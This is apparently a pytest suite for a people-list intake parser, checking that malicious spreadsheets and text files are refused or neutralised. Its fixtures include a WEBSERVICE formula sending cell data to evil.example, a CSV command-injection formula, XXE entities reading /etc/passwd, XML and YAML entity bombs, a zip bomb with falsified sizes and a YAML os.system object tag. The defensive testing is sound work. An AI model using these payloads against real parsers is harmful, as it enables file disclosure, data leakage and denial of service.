"""Lists and cards that somebody made to do harm: a clear reason, or nothing worse than a row."""

import contextlib
import json
import resource
import subprocess
import sys
import zipfile
from collections.abc import Callable
from io import BytesIO
from itertools import pairwise
from pathlib import Path

import pytest

from persona_check.claimfile import row_to_claim
from persona_check.errors import ClaimError
from persona_check.intake.forms import read
from persona_check.intake.reading import Given, ReadClaim, texts_of
from persona_check.intake.rows import read_rows
from tests.intake.workbook_files import ods, ods_of, xlsx, xlsx_of, zipped


def _read(name: str, content: bytes | str) -> ReadClaim:
    raw = content if isinstance(content, bytes) else content.encode()
    return read(Given(name=name, content=raw))


def _cell(at: str, text: str) -> str:
    return f'<c r="{at}" t="inlineStr"><is><t>{text}</t></is></c>'


def _row(number: int, cells: str) -> str:
    return f'<row r="{number}">{cells}</row>'


_HEADER = _row(1, _cell("A1", "name") + _cell("B1", "company"))


def test_a_formula_is_never_worked_out() -> None:
    body = _row(
        2,
        _cell("A2", "Ada Roe") + '<c r="B2"><f>WEBSERVICE("https://evil.example/?"&amp;A2)</f></c>',
    )
    body += _row(3, _cell("A3", "Ben Poe") + '<c r="B3" t="str"><f>1+1</f><v>Wick</v></c>')
    found = _read("s.xlsx", xlsx_of(f"<sheetData>{_HEADER}{body}</sheetData>"))
    assert [(one.name, texts_of(one, "affiliations")) for one in found.people] == [
        ("Ada Roe", ()),
        ("Ben Poe", ("Wick",)),
    ]


def test_a_formula_in_a_table_stays_a_text() -> None:
    (one,) = _read("s.csv", "name,company\nAda Roe,\"=cmd|' /C calc'!A0\"\n").people
    assert texts_of(one, "affiliations") == ("=cmd|' /C calc'!A0",)


def test_macros_links_and_pictures_of_a_workbook_are_not_touched() -> None:
    more = {
        "xl/vbaProject.bin": "Sub AutoOpen()",
        "xl/externalLinks/externalLink1.xml": "<externalLink>file:///etc/passwd</externalLink>",
        "xl/media/image1.png": "x",
    }
    body = _row(2, _cell("A2", "Ada Roe") + _cell("B2", "Wick"))
    content = xlsx_of(f"<sheetData>{_HEADER}{body}</sheetData>", more=more)
    assert [one.name for one in _read("s.xlsm", content).people] == ["Ada Roe"]


def _far_away() -> bytes:
    return xlsx_of(f"<sheetData>{_HEADER}{_row(1048576, _cell('XFD1048576', 'x'))}</sheetData>")


def _deep_zip() -> bytes:
    return zipped({"xl/workbook.xml": b" " * 200_000_000, "[Content_Types].xml": ""})


def _lying_sizes() -> bytes:
    """An archive whose directory says that a member of 60 MB has 10 bytes."""
    content = bytearray(zipped({"xl/worksheets/sheet1.xml": b"<" * 60_000_000}))
    at = content.rindex(b"PK\x01\x02")
    content[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(content)


def _many_parts() -> bytes:
    return zipped({f"xl/workbook{number}.xml": "" for number in range(6_000)})


def _entities() -> bytes:
    bomb = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    bomb += "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in pairwise("abcdefghi"))
    return xlsx_of(_row(2, _cell("A2", "&i;")), prolog=bomb + "]>")


def _repeated() -> bytes:
    cell = '<table:table-cell office:value-type="string" table:number-columns-repeated="16000">'
    return ods_of(
        '<table:table-row table:number-rows-repeated="1000000">'
        f"{cell}<text:p>Ada Roe</text:p></table:table-cell></table:table-row>"
    )


def _entities_in_ods() -> bytes:
    good = BytesIO(ods([["name", "company"], ["Ada Roe", "Wick"]]))
    with zipfile.ZipFile(good) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    entity = b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    members["content.xml"] = entity + members["content.xml"].replace(b"Wick", b"&f;")
    return zipped(members)


@pytest.mark.parametrize(
    ("name", "make", "reason"),
    [
        ("far.xlsx", _far_away, "has cells as far as row 1,048,576, column 16,384"),
        ("deep.xlsx", _deep_zip, "unpacks to 200 MB"),
        ("lying.xlsx", _lying_sizes, "is damaged|unpacks to"),
        ("parts.xlsx", _many_parts, "contains 6,000 parts"),
        ("entities.xlsx", _entities, "declares entities"),
        ("entities.ods", _entities_in_ods, "declares entities"),
        ("repeated.ods", _repeated, "has cells as far as row 1,000,000, column 16,000"),
        ("broken.xlsx", lambda: xlsx([["name"], ["Ada Roe"]])[:300], "is damaged"),
        ("not.xlsx", lambda: b"PK\x03\x04" + b"\0" * 400, "is damaged"),
        ("word.xlsx", lambda: zipped({"word/other.xml": "<w/>"}), "is damaged"),
        ("old.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5_000, "is damaged"),
        ("empty.xlsx", lambda: xlsx([]), "is empty"),
    ],
)
def test_a_workbook_made_to_burst_ends_with_a_reason(
    name: str, make: Callable[[], bytes], reason: str, tmp_path: Path
) -> None:
    content = make()
    with pytest.raises(ClaimError, match=reason) as caught:
        _read(name, content)
    assert caught.value.hint
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(ClaimError, match=reason):
        list(read_rows(path))


def _yaml_bomb() -> str:
    lines = ["a: &a [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"{b}: &{b} [{', '.join([f'*{a}'] * 10)}]" for a, b in pairwise("abcdefghi")]
    return "\n".join([*lines, "speakers: *i"])


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("bomb.yaml", _yaml_bomb(), "unfolds to more than any honest list holds"),
        ("self.yaml", "speakers: &a\n  - *a\n", "unfolds to more|nested too deeply|holds no list"),
        ("deep.yaml", "[" * 100_000, "invalid YAML|unfolds to more"),
        ("object.yaml", "- !!python/object/apply:os.system ['true']\n", "holds no list"),
        ("tab.yaml", "speakers:\n\t- name: Ada\n", "invalid YAML"),
        ("deep.json", "[" * 100_000, "invalid JSON"),
        ("half.json", '[{"name": "Ada Roe", "email": ', "invalid JSON"),
        ("number.json", '[{"name": "Ada", "n": ' + "9" * 5_000 + "}]", "invalid JSON"),
        ("nobody.json", '[{"room": "Hall"}]', "holds no list of people"),
        ("nul.csv", "name,email\nAda\0 Roe,x\n", "contains a NUL character"),
        ("nul.yaml", "- name: Ada\0\n", "contains a NUL character"),
        ("nul.bib", "@article{a, title={Weirs\0}}\n", "contains a NUL character"),
        ("only.csv", "colour,size\nred,3\n", "missing column “name”"),
        ("none.csv", "name,email\n", "lists nobody"),
        ("card.vcf", "BEGIN:VCARD\n", "holds no card"),
        ("x.cff", "cff-version: 1.2.0\n- a\n", "invalid YAML|holds no citation"),
    ],
)
def test_a_text_made_to_burst_ends_with_a_reason(name: str, content: str, reason: str) -> None:
    with pytest.raises(ClaimError, match=reason) as caught:
        _read(name, content)
    assert caught.value.hint


@pytest.mark.parametrize(
    ("content", "reason"),
    [("x = 1\n", "holds no list of people"), ("[[speakers]\n", "invalid TOML")],
)
def test_toml_without_people_is_refused_by_the_batch(
    tmp_path: Path, content: str, reason: str
) -> None:
    path = tmp_path / "speakers.toml"
    path.write_text(content)
    with pytest.raises(ClaimError, match=reason):
        list(read_rows(path))


def test_one_monstrous_cell_costs_its_row_and_no_other(tmp_path: Path) -> None:
    path = tmp_path / "s.csv"
    big = "x" * 40_000
    path.write_text(f"name,company,bio\n{big},Wick,\nAda Roe,{big},\nBen Poe,Wick,{big}\n")
    outcomes = []
    for row in read_rows(path):
        try:
            outcomes.append(row_to_claim(row, path, read_bio=lambda _: ()).name)
        except ClaimError as error:
            outcomes.append(error.message)
    assert outcomes == [
        "name: is too long: 40,000 characters, at most 300 allowed",
        "company[0]: is too long: 40,000 characters, at most 2,000 allowed",
        "Ben Poe",
    ]


@pytest.mark.parametrize(
    "content",
    [
        "@article{a, " + "title={" * 30_000,
        "@article{a, title={" + "{" * 200_000,
        "@article{" * 20_000,
        "@article{a, author={" + " and " * 50_000 + "}}",
        "@article{a, title={" + "\\'{" * 30_000 + "}}",
        "@article{a, title=" + "x # " * 50_000 + "}",
        "@article{a, title={" + "$x^" * 20_000 + "}, author={" + "A, " * 20_000 + "}}",
        "TY  - JOUR\n" + "AU  - " + "x" * 300_000 + "\n" + "more\n" * 50_000,
        "TY  - JOUR\n" * 20_000,
        "PMID- 1\nTI  - x\n" + "      y\n" * 100_000,
        "%0 Journal\n%T x\n" * 20_000,
        "BEGIN:VCARD\nFN:x" + "\n x" * 100_000 + "\nEND:VCARD",
        "BEGIN:VCARD\nFN:Ada Roe\nPHOTO;ENCODING=b:" + "A" * 1_000_000 + "\nEND:VCARD",
        "BEGIN:VCARD\n" + "X;" + 'A="' * 20_000 + ":x\nFN:Ada\nEND:VCARD",
        "title,authors,year\n" + 'x,"' + "A, " * 100_000 + '",2014\n',
        "name,email\n" + "Ada Roe," + "a@" * 100_000 + "\n",
        "name,presenters,session\n" + "Ada, " * 50_000 + "\n",
        'Presenters,session\n"' + "Ada Roe and " * 20_000 + '",x\n',
        "name;tagline\nAda;" + "| at " * 50_000 + "\n",
        "name;" + ";".join(f"c{at}" for at in range(20_000)) + "\nAda\n",
        json.dumps(
            [{"name": "Ada Roe", "email": "a@x.example", f"k{at}": "x"} for at in range(3_000)]
        ),
        json.dumps({"speakers": [{"name": "Ada", "links": ["x" * 50_000] * 50}]}),
        "1. Roe, A. (2014). " * 20_000,
    ],
    ids=lambda text: text[:24].encode("unicode_escape").decode(),
)
def test_long_and_unclosed_things_are_read_in_time(content: str) -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_utime
    for name in ("x", "x.csv"):
        with contextlib.suppress(ClaimError):
            _read(name, content)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_utime - before < 15


def test_depth_of_recursion_is_not_spent() -> None:
    nested = '{"a":' * 500 + '[{"name": "Ada Roe", "email": "a@x.example"}]' + "}" * 500
    with pytest.raises(ClaimError, match=r"holds no list of people|nested too deeply"):
        _read("x.json", nested)


# VmHWM is this program's own peak; ru_maxrss would begin with that of the pytest that started it.
_PEAK = """
import re, sys
from pathlib import Path
from persona_check.errors import ClaimError
from persona_check.intake.forms import read
from persona_check.intake.reading import Given
for name in sys.argv[1:]:
    try:
        read(Given(name=Path(name).name, content=Path(name).read_bytes()))
    except ClaimError:
        continue
peak = re.search(r"VmHWM:\\s+(\\d+)", Path("/proc/self/status").read_text())
print(int(peak[1]) // 1024)
"""


def test_what_bursts_stays_below_512_megabytes(tmp_path: Path) -> None:
    made = {
        "far.xlsx": _far_away(),
        "deep.xlsx": _deep_zip(),
        "lying.xlsx": _lying_sizes(),
        "entities.xlsx": _entities(),
        "repeated.ods": _repeated(),
        "bomb.yaml": _yaml_bomb().encode(),
    }
    for name, content in made.items():
        (tmp_path / name).write_bytes(content)
    command = [sys.executable, "-c", _PEAK, *(str(tmp_path / name) for name in made)]
    done = subprocess.run(command, capture_output=True, text=True, check=True, timeout=120)  # noqa: S603 - this interpreter, files made here
    assert int(done.stdout) < 512
